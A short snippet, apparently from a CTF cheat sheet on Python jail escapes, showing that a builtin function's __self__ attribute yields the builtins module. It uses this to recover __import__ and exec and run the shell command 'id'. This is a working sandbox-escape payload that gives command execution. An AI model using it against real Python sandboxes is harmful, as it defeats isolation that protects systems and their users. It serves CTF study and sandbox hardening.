# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (breakpoint.__self__ restores builtins)
# Family: breakpoint
# What: builtin_function.__self__ is the builtins module
b = print.__self__
b.__import__("os").system("id")
abs.__self__.exec("import os")
